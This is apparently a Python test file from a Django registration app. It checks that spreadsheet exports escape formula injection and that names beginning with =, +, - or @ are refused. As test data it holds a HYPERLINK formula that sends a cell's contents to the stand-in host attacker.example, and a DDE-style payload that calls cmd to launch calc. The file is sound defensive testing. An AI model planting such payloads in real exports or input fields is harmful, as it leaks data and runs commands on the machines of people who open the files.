"""Issue 11, finding 5: a name written `=HYPERLINK(…)` must not become a live formula in
the spreadsheet an officer opens. Every export neutralises what a spreadsheet would read
as a formula; names that start like a formula are refused where they are typed."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from openpyxl import load_workbook

from hirfa.accounts import services as accounts
from hirfa.core import validators
from hirfa.core.errors import DomainError
from hirfa.imports import services
from hirfa.register.models import Person
from tests.factories import officer_of
from tests.imports.helpers import activity_codes, row, write_csv

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?d="&B2,"Click")'


@pytest.fixture
def poisoned(tmp_path):
    """A registration whose names were stored before the edge refused formulas."""
    services.import_file(write_csv(tmp_path / "list.csv", [row(1, activity_codes())]))
    Person.objects.update(last_name_latin=LINK, first_name_latin="@SUM(1+1)*cmd|' /C calc'!A0")


@pytest.mark.parametrize(
    "value, written",
    [
        (LINK, "'" + LINK),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ait Lahcen", "Ait Lahcen"),
        ("+212612345678", "+212612345678"),  # a phone is a number, not a formula
        (12, 12),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    from hirfa.imports.exports import safe_cell

    assert safe_cell(value) == written


def test_the_csv_export_writes_formulas_as_text(client, poisoned):
    client.force_login(officer_of("09.581"))
    response = client.get("/exports/?format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1][4] == "'" + LINK
    assert lines[1][5].startswith("'@SUM")
    assert not any(cell.startswith(("=", "@")) for line in lines for cell in line)


def test_the_xlsx_export_holds_no_formula(client, poisoned):
    client.force_login(officer_of("09.581"))
    response = client.get("/exports/?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert not any(cell.data_type == "f" for cell in cells)
    assert sheet.cell(row=2, column=5).value == LINK
    assert sheet.cell(row=2, column=5).data_type == "s"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_person_name_starting_like_a_formula_is_refused(start):
    with pytest.raises(ValidationError) as raised:
        validators.clean_person_name(f"{start}Ahmed", validators.Script.LATIN)
    assert raised.value.code == "formula"


def test_free_text_starting_like_a_formula_is_refused():
    with pytest.raises(ValidationError) as raised:
        validators.validate_not_formula("=1+1")
    assert raised.value.code == "formula"
    with translation.override("fr"):
        assert raised.value.messages == ["Ceci ne peut pas commencer par =, +, - ou @."]
    validators.validate_not_formula("Coopérative Tifawin - Tiznit")


def test_a_signup_name_starting_like_a_formula_is_refused():
    with pytest.raises(DomainError) as raised:
        accounts.start_phone_signup("0612345678", "a long passphrase", LINK, "Ait Lahcen")
    assert "first_name" in raised.value.fields
